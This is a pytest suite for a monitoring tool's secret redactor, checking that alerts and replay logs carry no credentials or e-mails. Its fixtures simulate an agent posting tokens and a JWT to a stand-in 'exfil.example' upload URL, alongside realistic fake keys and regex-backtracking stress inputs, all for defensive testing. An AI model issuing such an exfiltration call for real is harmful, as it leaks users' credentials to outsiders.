"""Alerts carry no secrets: what an agent put in its arguments and URIs is redacted."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from monitor import testing as tb
from monitor.core import Engine, EngineSettings
from monitor.core.redact import (
    RedactionRules,
    Redactor,
    _auth_schemes,
    _compiled,
    redact_assignments,
)
from monitor.core.secret_rules import NAME_HINTS, TOKEN_RULES, redacted
from monitor.errors import MonitorError
from monitor.replay import replay_file
from monitor.settings import load_settings
from tests.core import secret_corpus as corpus

#: One secret of each kind the default rules cover, as an attacker might smuggle it.
SECRETS = {
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZ2VudCJ9.c2lnbmF0dXJlLXZhbHVl",
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "github": "ghp_" + "Z" * 36,
    "slack": "xoxb-1234567890-abcdefghij",
    "sk": "sk-proj-" + "q" * 40,
    "google": "AIza" + "B" * 35,
    "url_password": "hunter2hunter2",
    "kv_password": "correct-horse-battery",
    "kv_token": "t0k3nValue99",
    "bearer": "abcDEF123456ghiJKL",
}
EMAIL = "alice.sponsor@corp.example"


def _evil_resources() -> list[str]:
    s = SECRETS
    return [  # alerts quote the first three resources: each carries several secrets
        f"https://exfil.example/upload?token={s['kv_token']}&k={s['jwt']}&gh={s['github']}",
        f"postgres://admin:{s['url_password']}@db.internal/prod?x={s['slack']}",
        f"https://api.example/?password={s['kv_password']}&a={s['aws']}&b={s['sk']}&c={s['google']}",
        f"mailto:{EMAIL}",
    ]


def _events(agent: str = "agent:assist/1") -> list[object]:
    args = {
        "url": _evil_resources()[0],
        "headers": f"Authorization: Bearer {SECRETS['bearer']}",
        "body": f'{{"password": "{SECRETS["kv_password"]}", "to": "{EMAIL}"}}',
    }
    return [
        tb.task_started(0, agent, "T", EMAIL),
        # a tool outside the charter, touching resources outside it: both are quoted in reasons
        tb.call(
            1,
            agent,
            "web",
            "http_post",
            task_id="T",
            sponsor=EMAIL,
            args=args,
            resources=_evil_resources(),
        ),
        tb.task_ended(2, agent, "T", EMAIL),
        tb.call(90, agent, "fs", "read_file", task_id="T", sponsor=EMAIL, resources=["file://x"]),
    ]


CHARTER = tb.charter(
    "agent:assist/*",
    "delegated",
    tools=[{"server": "fs", "tool": "read_file", "classes": ["read"]}],
    resources=["file://**"],
    limits={"task_grace_seconds": 30},
)


def _alert_text(eng: Engine) -> bytes:
    out = b""
    for ev in _events():
        d = eng.process(ev)
        out += b"".join(a.to_json() + b"\n" for a in d.alerts)
        out += b"".join(r.to_json() + b"\n" for r in d.revocations)
    return out


def test_the_unredacted_alerts_would_leak_every_secret() -> None:
    """The control: without rules the secrets do reach the alerts, so the next test means something."""
    text = _alert_text(Engine([CHARTER], EngineSettings(redaction=RedactionRules(secrets=False))))
    leaked = [name for name, s in SECRETS.items() if s.encode() in text]
    assert set(leaked) >= set(SECRETS) - {"bearer"}  # the header sits in args, not in a reason
    assert EMAIL.encode() in text


def test_default_rules_take_every_secret_out_of_alerts_and_commands() -> None:
    text = _alert_text(Engine([CHARTER]))
    assert b"[REDACTED:" in text
    for name, s in SECRETS.items():
        assert s.encode() not in text, name
    assert EMAIL.encode() in text  # e-mails only on request


def test_emails_are_redacted_when_asked_for_everywhere_in_the_alert() -> None:
    rules = RedactionRules(emails=True)
    text = _alert_text(Engine([CHARTER], EngineSettings(redaction=rules)))
    assert EMAIL.encode() not in text
    alerts = [orjson.loads(x) for x in text.splitlines() if b'"detector"' in x]
    assert alerts and all(a["sponsor"] in (None, "[REDACTED:email]") for a in alerts)


def test_ids_do_not_change_with_redaction() -> None:
    plain = Engine([CHARTER], EngineSettings(redaction=RedactionRules(secrets=False)))
    red = Engine([CHARTER], EngineSettings(redaction=RedactionRules(emails=True)))
    ids = []
    events = _events()
    for eng in (plain, red):
        got = []
        for ev in events:
            d = eng.process(ev)
            got += [a.alert_id for a in d.alerts] + [r.command_id for r in d.revocations]
        ids.append(got)
    assert ids[0] == ids[1] and ids[0]


def test_revocation_targets_are_never_redacted() -> None:
    """credential_ids are what the revoker acts on: a token-looking id must stay intact there."""
    cred = SECRETS["jwt"]
    eng = Engine([CHARTER])
    d = eng.process(tb.call(1, "agent:assist/2", "github", "delete_repo", credential_id=cred))
    assert d.revocations and d.revocations[0].credential_ids == [cred]
    assert d.alerts and d.alerts[0].credential_id == "[REDACTED:jwt]"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Authorization: Bearer abcdefghijklmnop",
            "Authorization: Bearer [REDACTED:authorization]",
        ),
        ("https://bob:pw@db.example/x", "https://bob:[REDACTED:url-password]@db.example/x"),
        ('{"api_key": "zz9plural"}', '{"api_key": "[REDACTED:key-value]"}'),
        ("client_secret=abc&x=1", "client_secret=[REDACTED:key-value]&x=1"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
            "[REDACTED:private-key]",
        ),
        # ordinary alert prose is left alone
        ("task T of a ended: revoking its 2 live credential(s)", None),
        ("called fs/read_file 1m after its task T ended (grace 30s)", None),
        ("session s1 of agent a", None),
    ],
)
def test_default_rules(text: str, expected: str | None) -> None:
    assert Redactor(RedactionRules())(text) == (text if expected is None else expected)


def test_extra_patterns_from_settings() -> None:
    s = load_settings(env={"MCPMON_REDACT_PATTERNS": '["acct-[0-9]+"]'})
    r = Redactor(s.redaction())
    assert r("moved acct-12345 out") == "moved [REDACTED:custom-1] out"
    with pytest.raises(MonitorError, match="REDACT_PATTERNS"):
        load_settings(env={"MCPMON_REDACT_PATTERNS": '["("]'}).redaction()
    with pytest.raises(MonitorError, match="JSON list"):
        load_settings(env={"MCPMON_REDACT_PATTERNS": "acct-[0-9]+"}).redaction()
    assert load_settings(env={"MCPMON_REDACT_EMAILS": "true"}).engine().redaction.emails


def test_replay_writes_no_secret_to_alerts_jsonl(tmp_path: Path) -> None:
    events = tmp_path / "events.jsonl"
    events.write_bytes(b"".join(orjson.dumps(e.model_dump(mode="json")) + b"\n" for e in _events()))
    charters = tmp_path / "charters"
    charters.mkdir()
    (charters / "c.yaml").write_bytes(orjson.dumps(CHARTER.model_dump(exclude_none=True)))
    eng = Engine([CHARTER], load_settings(env={}).engine())
    s = replay_file(str(events), eng, tmp_path / "out")
    assert sum(s.alerts.values()) >= 2
    for name in ("alerts.jsonl", "revocations.jsonl"):
        text = (tmp_path / "out" / name).read_bytes()
        for key, secret in SECRETS.items():
            assert secret.encode() not in text, (name, key)


# ---- the rule table against a corpus of real-looking fake secrets (tests/core/secret_corpus.py)

R = Redactor(RedactionRules())


def _token_cases() -> list[tuple[str, str, str]]:
    return [
        (family, form, s)
        for family, samples in corpus.FAMILIES.items()
        for s in samples
        for form in corpus.TOKEN_FORMS
    ]


@pytest.mark.parametrize(("family", "form", "secret"), _token_cases())
def test_every_token_family_is_redacted_in_every_form(family: str, form: str, secret: str) -> None:
    text = corpus.TOKEN_FORMS[form](secret)
    out = R(text)
    assert not corpus.leaks(secret, out), out
    assert f"[REDACTED:{family}]" in out  # by its own rule, not by luck
    assert all(k in out for k in corpus.KEEP if k in text), out


@pytest.mark.parametrize("url", corpus.SLACK_WEBHOOKS)
def test_slack_webhook_paths_are_redacted_and_the_host_kept(url: str) -> None:
    secret = url.split("/services/", 1)[1]
    for form in corpus.TOKEN_FORMS.values():
        out = R(form(url))
        assert not corpus.leaks(secret, out) and "hooks.slack.com/" in out, out


def _assignment_cases() -> list[tuple[str, str, str]]:
    return [
        (name, form, value)
        for name in corpus.ASSIGNMENT_NAMES
        for form in corpus.ASSIGNMENT_FORMS
        for value in corpus.ASSIGNMENT_VALUES
    ]


@pytest.mark.parametrize(("name", "form", "value"), _assignment_cases())
def test_every_secret_name_in_every_spelling_loses_its_whole_value(
    name: str, form: str, value: str
) -> None:
    text = corpus.ASSIGNMENT_FORMS[form](name, value)
    out = R(text)
    assert "[REDACTED:key-value]" in out, out
    for word in {value, quote(value, safe=""), *value.split()}:
        assert not corpus.leaks(word, out), (word, out)  # not even after its first word
    assert name in out or quote(name, safe="") in out  # what it was stays readable
    assert all(k in out for k in corpus.KEEP if k in text), out


@pytest.mark.parametrize(("text", "password"), corpus.URL_PASSWORDS)
def test_passwords_in_urls_go_the_user_and_host_stay(text: str, password: str) -> None:
    out = R(f"fetch {text} for task T-42")
    assert password not in out and "T-42" in out
    assert out.count("@") == text.count("@") and text.split("://")[0] in out


@pytest.mark.parametrize(("text", "credential"), corpus.AUTH_HEADERS)
def test_authorization_values_go(text: str, credential: str) -> None:
    out = R(text)
    assert credential not in out and "REDACTED" in out
    assert "Authorization" in out or "authorization" in out


@pytest.mark.parametrize("text", corpus.UNCHANGED)
def test_ordinary_ids_paths_and_prose_are_left_alone(text: str) -> None:
    assert R(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # the issue's forms, written out
        ("db_password=hunter2 user=bob", "db_password=[REDACTED:key-value] user=bob"),
        ("MYSQL_PWD=s3cr3t\nHOME=/root", "MYSQL_PWD=[REDACTED:key-value]\nHOME=/root"),
        ("_password=x1", "_password=[REDACTED:key-value]"),
        ("redis://:pw99@cache:6379", "redis://:[REDACTED:url-password]@cache:6379"),
        ("q=password%3Dhunter%202&x=1", "q=password%3D[REDACTED:key-value]&x=1"),
        ('{"password": "a b c", "n": 1}', '{"password": "[REDACTED:key-value]", "n": 1}'),
        ('{"token": 12345, "user": "bob"}', '{"token": [REDACTED:key-value], "user": "bob"}'),
        ("password: a b c\nuser: bob", "password: [REDACTED:key-value]\nuser: bob"),
        ("https://h/?token=abc def", "https://h/?token=[REDACTED:key-value] def"),
        (
            "AccountKey=" + "k" * 86 + "==;EndpointSuffix=core.windows.net",
            "AccountKey=[REDACTED:azure-key];EndpointSuffix=core.windows.net",
        ),
        ("npm_" + "a1" * 18 + " ok", "[REDACTED:npm-token] ok"),
        ("password=" + "ghp_" + "Z" * 36, "password=[REDACTED:github-token]"),
        ("Cookie: sid=abc123; theme=dark", "Cookie: [REDACTED:key-value]; theme=dark"),
    ],
)
def test_issue_forms_exactly(text: str, expected: str) -> None:
    assert R(text) == expected


def test_redaction_is_idempotent_over_the_corpus() -> None:
    texts = [
        f(s) for ss in corpus.FAMILIES.values() for s in ss for f in corpus.TOKEN_FORMS.values()
    ]
    texts += [
        f(n, v)
        for n in corpus.ASSIGNMENT_NAMES
        for f in corpus.ASSIGNMENT_FORMS.values()
        for v in corpus.ASSIGNMENT_VALUES
    ]
    for t in texts:
        once = R(t)
        assert R(once) == once, t


# ---- hostile input: every rule is linear by construction, so 100 KB comes out right


def _nested_quantifiers(pattern: str) -> list[str]:
    """Variable quantifiers inside repeated groups (the shape of catastrophic backtracking)."""
    from re import _constants as c  # type: ignore[attr-defined]
    from re import _parser as p  # type: ignore[attr-defined]

    repeats = {c.MAX_REPEAT, c.MIN_REPEAT, c.POSSESSIVE_REPEAT}
    found: list[str] = []

    def walk(items: Any, inside: bool) -> None:
        for op, av in items:
            if op in repeats:
                lo, hi, sub = av
                if inside and lo != hi:
                    found.append(str((lo, hi)))
                walk(sub, inside or hi > 1)  # an optional (?:...)? repeats nothing
            elif op in (c.SUBPATTERN, c.ATOMIC_GROUP):
                walk(av[-1], inside)
            elif op == c.BRANCH:
                for alt in av[1]:
                    walk(alt, inside)
            elif op in (c.ASSERT, c.ASSERT_NOT):
                walk(av[1], inside)

    walk(p.parse(pattern), False)
    return found


def test_no_rule_nests_quantifiers() -> None:
    from monitor.core import redact, secret_rules

    patterns = [r.pattern for r in secret_rules.TOKEN_RULES] + [
        rx.pattern
        for rx in (
            secret_rules.AUTH_SCHEME,
            secret_rules.SEPARATOR,
            secret_rules.NAME_BEFORE,
            secret_rules.OPENING,
            redact._HARD_END,
            redact._NEXT_ASSIGNMENT,
            redact._LINE_END,
            redact._ALREADY,
        )
    ]
    assert _nested_quantifiers(r"(?:a+)*") == ["(1, MAXREPEAT)"]  # the check can fail
    for pat in patterns:
        assert not _nested_quantifiers(pat), pat


N = 100_000


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a" * N, None),
        ("eyJ" + "a" * N, None),
        (("eyJaaaaa-") * (N // 9), None),
        ("A" * N + "==", None),
        ("https://" + "a:" * (N // 2), None),
        ("://:" * (N // 4), None),
        ("x" * N + "=", None),
        ("ghp_" * (N // 4), None),
        ("Bearer " * (N // 7), None),
        ("password " * (N // 9), None),
        ("-----BEGIN RSA PRIVATE KEY-----" * 3000, "[REDACTED:private-key]"),
        ("sk-" * (N // 3), "[REDACTED:api-key]"),
        ("password=" + "a" * N, "password=[REDACTED:key-value]"),
        ("password=" * (N // 9), "password=[REDACTED:key-value]"),
        ("password=" + "a " * (N // 2), "password=[REDACTED:key-value] "),
        ("_password" * (N // 9) + "=v", "_password" * (N // 9) + "=[REDACTED:key-value]"),
        (" password=x" * (N // 11), " password=[REDACTED:key-value]" * (N // 11)),
        ('password: "' + "a" * N, 'password: "[REDACTED:key-value]'),
    ],
)
def test_long_hostile_inputs_come_out_right(text: str, expected: str | None) -> None:
    assert R(text) == (text if expected is None else expected)


# ---- alerts and reasons built outside the decision step


def _charter_update(pattern: str) -> bytes:
    return orjson.dumps(
        {
            "type": "charter_updated",
            "event_id": "u1",
            "ts": "2026-01-01T00:00:00Z",
            "agent_id": "agent:assist/1",
            "charter": {"agent": pattern, "kind": "robot"},
        }
    )


def test_charter_rejected_alerts_are_redacted_and_keep_their_id() -> None:
    from monitor.events import decode_event

    gh = corpus.FAMILIES["github-token"][1]
    ev = decode_event(_charter_update(f"agent:assist/{gh}"))
    red = Engine([CHARTER]).process(ev).alerts
    plain = Engine([CHARTER], EngineSettings(redaction=RedactionRules(secrets=False)))
    raw = plain.process(ev).alerts
    assert [a.detector for a in red] == ["charter_rejected"] and gh in raw[0].to_json().decode()
    assert gh not in red[0].to_json().decode() and "[REDACTED:github-token]" in red[0].reason
    assert red[0].alert_id == raw[0].alert_id


def test_dead_letter_reasons_and_the_replay_summary_are_redacted(tmp_path: Path) -> None:
    npm = corpus.FAMILIES["npm-token"][0]
    events = tmp_path / "events.jsonl"
    line = {"type": npm, "event_id": "e1", "ts": "2026-01-01T00:00:00Z", "agent_id": "a"}
    events.write_bytes(orjson.dumps(line) + b"\n")
    s = replay_file(str(events), Engine([CHARTER]), tmp_path / "out")
    dead = orjson.loads((tmp_path / "out" / "deadletter.jsonl").read_bytes())
    assert dead["reason"].startswith("unknown event type") and npm not in dead["reason"]
    assert npm in dead["raw"]  # the message itself is kept whole: never lost
    assert npm not in orjson.dumps(s.to_dict()).decode() and npm not in s.render()


# ---------------------------------------------------------------- quoted values, rule building


def test_an_unterminated_quoted_secret_is_redacted_to_the_end_of_its_line_only() -> None:
    r = Redactor(RedactionRules())
    assert r('password="abc def\nnext line') == 'password="[REDACTED:key-value]\nnext line'
    assert r("password='abc def\\nnext") == "password='[REDACTED:key-value]\\nnext"
    assert r('password="abc def') == 'password="[REDACTED:key-value]'


def test_an_escaped_double_quote_stays_inside_the_redacted_value() -> None:
    r = Redactor(RedactionRules())
    assert r('password="a\\"b c" kept') == 'password="[REDACTED:key-value]" kept'
    # in single quotes a backslash escapes nothing: the value ends at the next quote
    assert r("password='a\\' kept") == "password='[REDACTED:key-value]' kept"


def test_an_extra_pattern_spans_lines_and_keeps_a_keep_group() -> None:
    r = Redactor(RedactionRules(secrets=False, extra=("BEGIN.*?END", r"(?P<keep>ref=)\w+")))
    assert r("x BEGIN a\nb END y") == "x [REDACTED:custom-1] y"
    assert r("ref=abc123 z") == "ref=[REDACTED:custom-2] z"


def test_a_rule_with_hints_only_scans_text_that_holds_one() -> None:
    step = _compiled("tok", r"(?P<keep>tok_)\w+", ("tok_",))
    assert step("a tok_abc b") == "a tok_[REDACTED:tok] b"
    assert step("a TOK_abc b") == "a TOK_abc b"  # no hint in it: untouched
    assert step("") == ""


def test_an_escaped_quote_right_before_the_closing_one_is_inside() -> None:
    r = Redactor(RedactionRules())
    assert r('password="a\\"" kept') == 'password="[REDACTED:key-value]" kept'


def test_a_text_holding_every_name_hint_is_still_scanned() -> None:
    from monitor.core.secret_rules import NAME_HINTS

    out = Redactor(RedactionRules())(" ".join(NAME_HINTS) + " password=hunter2")
    assert "hunter2" not in out


def test_a_bad_extra_pattern_is_named_by_its_number() -> None:
    with pytest.raises(ValueError, match=r"^redaction pattern 2 '\(': "):
        Redactor(RedactionRules(extra=("ok", "(")))


def test_secret_keys_are_judged_only_when_secrets_are_redacted() -> None:
    assert Redactor(RedactionRules()).secret_key("DB_PASSWORD") is True
    assert Redactor(RedactionRules()).secret_key("hostname") is False
    assert not Redactor(RedactionRules(secrets=False)).secret_key("DB_PASSWORD")


def test_an_alert_built_outside_the_decision_step_has_its_ids_and_sponsor_redacted() -> None:
    eng = Engine([tb.charter("agent:*", tools=[{"server": "s", "tool": "t"}])])
    [a] = tb.feed(eng, tb.call(0, "agent:a", "s", "other")).alerts
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    raw = a.model_copy(
        update={
            "sponsor": "bob@evil.example",
            "task_id": token,
            "session_id": token,
            "credential_id": token,
        }
    )
    red = Redactor(RedactionRules(emails=True)).alert(raw)
    assert red.sponsor == "[REDACTED:email]"
    for v in (red.task_id, red.session_id, red.credential_id):
        assert v is not None and token not in v and v.startswith("[REDACTED:")
    assert (red.alert_id, red.agent_id, red.evidence) == (a.alert_id, a.agent_id, a.evidence)


# ---- what a redacted text looks like, at the edges of the assignment scanner


def _redact(text: str) -> str:
    return Redactor(RedactionRules())(text)


def test_a_separator_inside_a_redacted_value_does_not_stop_the_scan() -> None:
    assert _redact("password=a:b&api_key=k3y") == (
        "password=[REDACTED:key-value]&api_key=[REDACTED:key-value]"
    )


def test_a_separator_without_a_name_before_it_does_not_stop_the_scan() -> None:
    assert _redact("{=} password=hunter2") == "{=} password=[REDACTED:key-value]"
    assert _redact("=> token=abc") == "=> token=[REDACTED:key-value]"


def test_a_harmless_name_before_a_secret_one_does_not_stop_the_scan() -> None:
    assert _redact("user=bob&password=hunter2") == "user=bob&password=[REDACTED:key-value]"
    assert _redact("user=bob password=hunter2") == "user=bob password=[REDACTED:key-value]"


def test_a_value_another_rule_took_out_does_not_stop_the_scan() -> None:
    assert _redact("password=[REDACTED:jwt]&api_key=k3y") == (
        "password=[REDACTED:jwt]&api_key=[REDACTED:key-value]"
    )


def test_an_empty_value_stays_empty_and_does_not_stop_the_scan() -> None:
    assert _redact("?password=&user=bob") == "?password=&user=bob"
    assert _redact("password=&api_key=k3y") == "password=&api_key=[REDACTED:key-value]"
    assert _redact("x=1&token%3d") == "x=1&token%3d"


def test_an_unterminated_quote_on_a_later_line_still_runs_to_the_end() -> None:
    # the line end searched for is the one after the value's start, not the first in the text
    assert _redact("line one\napi_key='unterminated s3cr3t") == (
        "line one\napi_key='[REDACTED:key-value]"
    )
    assert _redact("a\\nb\\napi_key='s3cr3t") == "a\\nb\\napi_key='[REDACTED:key-value]"


def test_a_value_ending_in_x_loses_nothing_to_trimming() -> None:
    # only spaces, tabs and commas are trimmed off an unquoted value's end
    assert _redact("password=HUNTER2XX") == "password=[REDACTED:key-value]"
    assert _redact("password=HUNTER2X, user=bob") == "password=[REDACTED:key-value], user=bob"


def test_a_text_starting_with_the_assignment_is_not_a_url_query() -> None:
    # the character "before" the name does not exist: not ?, & or ; (not the text's last one)
    assert _redact("password=correct horse battery&") == "password=[REDACTED:key-value]&"
    assert _redact("password=correct horse battery;") == "password=[REDACTED:key-value];"


@pytest.mark.parametrize("before", ["?", "&", ";"])
@pytest.mark.parametrize("sep", ["=", "%3D", "%3d"])
def test_in_a_url_query_a_space_ends_the_value(before: str, sep: str) -> None:
    text = f"https://x/a{before}password{sep}hunter2 and the prose after it"
    assert _redact(text) == (
        f"https://x/a{before}password{sep}[REDACTED:key-value] and the prose after it"
    )


def test_outside_a_url_query_a_space_does_not_end_the_value() -> None:
    assert _redact("note password=correct horse battery") == ("note password=[REDACTED:key-value]")
    assert _redact("?password:correct horse") == "?password:[REDACTED:key-value]"


def test_a_url_query_value_ends_at_its_delimiter_even_with_a_space_later() -> None:
    assert _redact("?password=hunter2&next=1 tail") == "?password=[REDACTED:key-value]&next=1 tail"


def test_a_rule_with_hints_leaves_a_text_without_one_untouched_even_if_it_matches() -> None:
    gated = _compiled("tok", r"\w+_\w+", ("tok_",))
    assert gated("a key_abc b") == "a key_abc b"  # the pattern matches, but no hint: not scanned
    assert gated("a tok_abc b") == "a [REDACTED:tok] b"


def _every_step_always(text: str) -> str:
    """The default pipeline with no hint test anywhere: every step scans every text."""
    for rule in TOKEN_RULES:
        rx = re.compile(rule.pattern, re.DOTALL)
        repl = redacted(rule.name)
        text = rx.sub((r"\g<keep>" + repl) if "keep" in rx.groupindex else repl, text)
    return redact_assignments(_auth_schemes(text))


#: Hints of every step, secrets of every family, and the shapes around them: words
#: that a step's expression matches only after a hint (a bearer value, an assignment's).
_HINTS = sorted({*(h for rule in TOKEN_RULES for h in rule.hints), *NAME_HINTS})
_SECRETS = [samples[0] for samples in corpus.FAMILIES.values()]
_SHAPES = ["Bearer ", "basic ", "BASIC ", "=", ": ", ":", "redis://:", '"', "&", "?", "@", "://", " ", "\n",
           "abcDEF123456ghiJKL", "hunter2hunter2", "eve@evil.example", "\u212a", "\u017f"]  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(
    st.lists(
        st.sampled_from(_HINTS) | st.sampled_from(_SECRETS) | st.sampled_from(_SHAPES), max_size=8
    )
)
def test_skipping_steps_by_their_hints_changes_no_output(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert Redactor(RedactionRules())(text) == _every_step_always(text)


# ---------------------------------------------------------------------- structures
R = Redactor(RedactionRules())
GH_A = "ghp_" + "Z" * 36
GH_B = "ghp_" + "Y" * 36
AWS = "AKIAIOSFODNN7EXAMPLE"


class _Named:
    def __str__(self) -> str:
        return f"object holding {AWS}"


def _deep(levels: int, leaf: Any) -> Any:
    out: Any = leaf
    for _ in range(levels):
        out = {"k": out}
    return out


def test_a_structure_is_redacted_in_every_string_key_and_item_and_scalars_kept() -> None:
    from datetime import UTC, datetime

    when = datetime(2026, 12, 5, tzinfo=UTC)
    given_ = {
        "cmd": f"export KEY={AWS}",
        GH_A: [AWS, 7, 2.5, True, None, when, (GH_B,), {AWS}],
        "nested": {"api_key": 12345, "token": [1, 2], "plain": "ok"},
        "obj": _Named(),
        7: "numeric key",
    }
    assert R.structure(given_) == {
        "cmd": "export KEY=[REDACTED:aws-key]",
        "[REDACTED:github-token]": [
            "[REDACTED:aws-key]", 7, 2.5, True, None, when, ["[REDACTED:github-token]"],
            ["[REDACTED:aws-key]"],
        ],
        "nested": {"api_key": "[REDACTED:key-value]", "token": "[REDACTED:key-value]",
                   "plain": "ok"},
        "obj": "object holding [REDACTED:aws-key]",
        "7": "numeric key",
    }  # fmt: skip
    assert given_["cmd"] == f"export KEY={AWS}"  # the input is not changed


def test_two_keys_redacted_alike_are_both_kept_primed() -> None:
    out = R.structure({GH_A: 1, GH_B: 2, "ghp_" + "X" * 36: 3})
    assert out == {"[REDACTED:github-token]": 1, "[REDACTED:github-token]'": 2,
                   "[REDACTED:github-token]''": 3}  # fmt: skip


@pytest.mark.parametrize("wrap", [lambda x: {"k": x}, lambda x: [x]], ids=["dict", "list"])
def test_depth_counts_containers_and_what_lies_deeper_is_one_mark(wrap: Any) -> None:
    """``depth`` containers are walked; a container below them is replaced whole, a string or
    a number there is still redacted or kept."""
    inner = {"x": AWS}
    assert R.structure(wrap(inner), depth=2) == wrap({"x": "[REDACTED:aws-key]"})
    assert R.structure(wrap(inner), depth=1) == wrap("[REDACTED:too-deep]")
    assert R.structure(wrap(wrap(5)), depth=2) == wrap(wrap(5))
    assert R.structure(wrap(wrap(AWS)), depth=2) == wrap(wrap("[REDACTED:aws-key]"))
    assert R.structure(inner, depth=0) == "[REDACTED:too-deep]"
    assert R.structure(_deep(70, AWS)) == _deep(64, "[REDACTED:too-deep]")  # 64 by default
    assert R.structure(_deep(64, AWS)) == _deep(64, "[REDACTED:aws-key]")


def test_text_is_applied_to_every_redacted_string_keys_items_and_objects_included() -> None:
    def shout(s: str) -> str:
        return s.upper() + "!"

    given_ = {"key": f"v {AWS}", "items": ["a", {"deep": "b"}], "obj": _Named(), "n": 3}
    assert R.structure(given_, text=shout) == {
        "KEY!": "V [REDACTED:AWS-KEY]!",
        "ITEMS!": ["A!", {"DEEP!": "B!"}],
        "OBJ!": "OBJECT HOLDING [REDACTED:AWS-KEY]!",
        "N!": 3,
    }
    assert R.structure(f"x {AWS}", text=len) == len("x [REDACTED:aws-key]")  # type: ignore[arg-type]
